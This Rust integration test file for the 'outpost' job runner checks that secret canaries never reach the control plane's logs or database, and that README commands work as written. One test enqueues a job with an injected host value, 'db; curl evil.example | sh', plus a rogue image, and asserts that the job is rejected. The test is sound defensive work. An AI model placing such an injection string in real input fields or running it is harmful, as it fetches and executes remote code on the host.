//! Local mode against the reference control plane, both as real processes: `outpost
//! control-plane serve`, `outpost control-plane enqueue`, and `outpost run --control-plane`
//! running jobs against the real PostgreSQL from scripts/services.sh. The canary test:
//! secrets placed in source passwords never reach anything shipped — the control plane's
//! whole database (logs, status messages, heartbeats) is searched byte by byte.

mod support;

use std::path::PathBuf;

use support::{contains, env, psql, serve};

/// A job chooses only what a job may (the schemas); the connection's folder says where its
/// password may go.
fn job(id: &str, connection: &str, mode: &str) -> serde_json::Value {
    serde_json::json!({
        "id": id, "runId": "r1", "connector": "postgres", "connection": connection,
        "transferMode": mode, "parameters": { "include-schemas": "^public$" }
    })
}

/// A connection's folder, as its Secret would be mounted: the password and where it may go.
fn connection_folder(dir: &std::path::Path, user: &str, password: &str) {
    std::fs::create_dir_all(dir).expect("connection folder");
    for (key, value) in [
        ("host", env("OUTPOST_TEST_PG_HOST")),
        ("port", env("OUTPOST_TEST_PG_PORT")),
        ("database", "postgres".to_owned()),
        ("user", user.to_owned()),
        ("ssl-mode", "require".to_owned()),
        ("password", password.to_owned()),
    ] {
        std::fs::write(dir.join(key), value).expect("connection value");
    }
}

#[test]
fn local_mode_runs_jobs_and_no_canary_secret_is_ever_shipped() {
    let scratch = support::scratch("cp-cli");
    let dir = scratch.path().to_owned();
    let pid = std::process::id();
    let good_canary = format!("CANARY-GOOD-{pid}-71c3e");
    let wrong_canary = format!("CANARY-WRONG-{pid}-5d0a9");
    let role = format!("outpost_canary_{pid}");
    psql(&format!(
        "DROP ROLE IF EXISTS {role}; CREATE ROLE {role} LOGIN PASSWORD '{good_canary}'"
    ));

    // One folder per connection, as the Secrets `outpost-source-<connection>` would be.
    let secrets = dir.join("secrets");
    for (connection, password) in [("pg-good", &good_canary), ("pg-wrong", &wrong_canary)] {
        connection_folder(&secrets.join(connection), &role, password);
    }
    let server = serve(&dir);
    // Direct ingestion: the control plane signs the URLs, s3s-fs checks them.
    server.enqueue("good", &job("job-good", "pg-good", "direct-ingestion"));
    server.enqueue("wrong", &job("job-wrong", "pg-wrong", "bucket-relay"));
    let mut injected = job("job-injected", "pg-good", "bucket-relay");
    injected["image"] = serde_json::json!("evil/image:latest");
    injected["parameters"]["host"] = serde_json::json!("db; curl evil.example | sh");
    server.enqueue("injected", &injected);

    let bucket = dir.join("bucket");
    let run = server
        .run_unsigned(&secrets, &bucket)
        // The control plane signs upload URLs for s3s-fs on loopback, which direct ingestion
        // refuses without the explicit opt-in (security issue 13, M2).
        .arg("--allow-loopback-ingest")
        .env("OUTPOST_AGENT_ID", "local-1")
        .output()
        .expect("run");
    let stdout = String::from_utf8_lossy(&run.stdout);
    let stderr = String::from_utf8_lossy(&run.stderr);
    assert!(run.status.success(), "run failed:\n{stdout}\n{stderr}");
    assert!(
        stdout.contains("1 succeeded, 1 failed, 1 rejected"),
        "{stdout}"
    );

    let states = server.states();
    let state_of = |id: &str| states.iter().find(|s| s.0 == id).cloned().expect("job");
    assert_eq!(state_of("job-good").1, "succeeded");
    let (_, state, message) = state_of("job-wrong");
    assert_eq!(state, "failed");
    let message = message.expect("a failure message");
    assert!(
        message.contains("exit code 77"),
        "login refused is reported: {message}"
    );
    let (_, state, message) = state_of("job-injected");
    assert_eq!(state, "rejected");
    let message = message.expect("reasons");
    assert!(
        message.contains("`image`") && message.contains("host"),
        "{message}"
    );
    // Logs, status messages and heartbeats were shipped: a direct-ingestion run's logs to
    // the control plane, a bucket-relay run's logs to the relay bucket…
    let logs = server.logs();
    assert_eq!(logs.len(), 1, "the direct-ingestion run's logs: {logs:?}");
    assert!(
        logs[0].contains("connection pg-good")
            && logs[0].contains("delivered")
            && logs[0].contains("manifest.json"),
        "{logs:?}"
    );
    let relay_logs: Vec<PathBuf> = std::fs::read_dir(bucket.join("_logs/pg-wrong/job-wrong/r1"))
        .expect("the bucket-relay run's logs are in the bucket")
        .map(|e| e.expect("entry").path())
        .collect();
    assert_eq!(relay_logs.len(), 1, "{relay_logs:?}");
    let relay_log = std::fs::read_to_string(&relay_logs[0]).expect("log");
    assert!(
        relay_log.contains("connection pg-wrong") && relay_log.contains("failed"),
        "{relay_log}"
    );
    let connection = rusqlite::Connection::open(&server.database).expect("open");
    let heartbeats: i64 = connection
        .query_row("SELECT COUNT(*) FROM heartbeats", [], |r| r.get(0))
        .expect("count");
    assert!(heartbeats >= 1);
    drop(connection);
    let mut shipped = server.files();
    drop(server);
    // …and no canary is anywhere in the control plane's files (database and WAL), in the
    // logs in the bucket, nor in what the runner printed.
    shipped.extend(relay_log.as_bytes());
    let found = |needle: &str| contains(&shipped, needle);
    // The search finds what is there: the connections are named in the jobs and the logs
    // (the role name no longer is: it is the connection's, not the job's).
    assert!(
        found("pg-good") && found("pg-wrong"),
        "the search cannot find what the control plane holds"
    );
    for canary in [&good_canary, &wrong_canary] {
        assert!(!found(canary), "{canary} reached the control plane");
        assert!(!stdout.contains(canary.as_str()) && !stderr.contains(canary.as_str()));
    }
    psql(&format!("DROP ROLE IF EXISTS {role}"));
}

/// The README's "run a control plane's jobs on one machine" commands, run as written (with the
/// built binary for `cargo run -p outpost --`, a free port for 8080 and a real SQLite file for
/// `/srv/app.db`): the job ends `succeeded` and the run is in `outpost-output/`.
#[test]
fn the_readme_local_control_plane_commands_work_as_written() {
    let readme = std::fs::read_to_string(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../README.md"),
    )
    .expect("README");
    let start = readme
        .find("Try it against the reference control plane:\n\n```sh\n")
        .expect("the README's local control-plane block");
    let block = &readme[start..];
    let block = &block[block.find("```sh\n").expect("fence") + 6..];
    let block = &block[..block.find("```").expect("closing fence")];
    let scratch = support::scratch("readme-cp");
    let dir = scratch.path();
    let database = dir.join("app.db");
    let connection = rusqlite::Connection::open(&database).expect("sqlite");
    connection
        .execute_batch("CREATE TABLE orders (id INTEGER PRIMARY KEY, total REAL);")
        .expect("schema");
    drop(connection);
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .expect("bind")
        .local_addr()
        .expect("address")
        .port();
    let binary = env!("CARGO_BIN_EXE_outpost");
    let script = block
        .replace("cargo run -p outpost --", binary)
        .replace("127.0.0.1:8080", &format!("127.0.0.1:{port}"))
        .replace(
            "--signing-key signing-key &",
            &format!("--signing-key signing-key --listen 127.0.0.1:{port} >/dev/null & sleep 1"),
        )
        .replace("/srv/app.db", &database.display().to_string());
    assert!(
        script.contains(" & sleep 1"),
        "the serve line changed: {script}"
    );
    let out = std::process::Command::new("bash")
        .arg("-c")
        .arg(format!("set -e\ntrap 'kill %1 2>/dev/null' EXIT\n{script}"))
        .current_dir(dir)
        // The runner keeps signed jobs' nonces in its state folder: here, the scratch one.
        .env("XDG_STATE_HOME", dir.join("state"))
        .output()
        .expect("bash");
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{script}\n{stdout}\n{stderr}");
    assert!(stdout.contains("1 succeeded"), "{stdout}\n{stderr}");
    let manifest = dir.join("outpost-output/demo/job-1/r1/manifest.json");
    assert!(manifest.is_file(), "no manifest at {}", manifest.display());
}
